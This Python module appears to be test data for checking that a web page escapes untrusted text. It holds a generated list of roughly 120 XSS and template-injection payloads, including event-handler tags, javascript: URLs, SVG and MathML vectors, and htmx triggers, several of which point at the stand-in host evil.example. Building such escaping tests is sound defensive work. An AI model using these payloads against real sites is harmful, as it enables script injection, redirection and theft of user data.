"""120 texts that a page must show and never obey (T14)."""

from __future__ import annotations

from typing import Final

_RUN: Final = "alert(1)"

_EVENTS: Final = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("video src=x", "onerror"), ("details open", "ontoggle"),
    ("marquee", "onstart"), ("button popovertarget=x", "onbeforetoggle"), ("a href=x", "onclick"),
)  # fmt: skip
_WRITTEN: Final = (
    "<{tag} {on}={run}>", '<{tag} {on}="{run}">', "<{tag}/{on}={run}//", "<{TAG} {ON}={run}>",
)  # fmt: skip
_ENDS: Final = (
    '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</select>", "</style>",
    "</noscript>",
)  # fmt: skip

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    *(
        how.format(tag=tag, on=on, TAG=tag.upper(), ON=on.upper(), run=_RUN)
        for tag, on in _EVENTS
        for how in _WRITTEN
    ),
    *(f"{end}<script>{_RUN}</script>" for end in _ENDS),
    *(f"{end}<img src=x onerror={_RUN}>" for end in _ENDS),
    # addresses
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "//evil.example/x", "\\\\evil.example\\x",
    # templates
    "{{7*7}}", "{%raw%}", "{#", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "{{config.items()}}",
    "{{''.__class__.__mro__}}", "{{constructor.constructor('alert(1)')()}}",
    # out of an attribute
    '" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus x='", "` onload=alert(1) `",
    "'-alert(1)-'", '";alert(1)//', "\\';alert(1)//",
    # signs
    "\u202egnirts\u202c", "\u200b<b>\u200b", "\uff1cscript\uff1ealert(1)", "&lt;b&gt;",
    "&#60;b&#62;", "\u2028alert(1)\u2029",
    # other languages within a page
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><use href=//evil.example/x#y /></svg>", "<svg><animate onbegin=alert(1)>",
    "<svg><foreignObject><iframe src=//evil.example>", '<svg><style>@import"//evil.example"',
    "<svg><set attributeName=href to=javascript:alert(1)>", "<math href=javascript:alert(1)>x",
    '<math><mi//xlink:href="data:x,<script>">', "<math><mtext><style><img src=x onerror=alert(1)>",
    # whole elements
    "<a href=//evil.example>", "<base href=//evil.example>", "<iframe srcdoc='<script>1</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example>",
    "<input name=token value=x>", "<button formaction=//evil.example>", "<b style=x:y onclick=z>",
    "<style>*{display:none}</style>", "<template><script>1</script></template>", "<plaintext>",
    # what htmx would obey
    "<div hx-get=//evil.example hx-trigger=load>", "<div hx-on:load=alert(1)>",
    "<div data-hx-post=/sign-out hx-trigger=load>",
)  # fmt: skip

GROUP: Final = 20


def group(number: int) -> str:
    """Return some of them as one text, others for each number; a script is always among them."""
    begin = GROUP * number % len(PAYLOADS)
    some = [*PAYLOADS, *PAYLOADS][begin : begin + GROUP]
    return " ".join([PAYLOADS[0], *some])


GROUPS: Final = -(-len(PAYLOADS) // GROUP)
"""Groups that hold all of them together."""
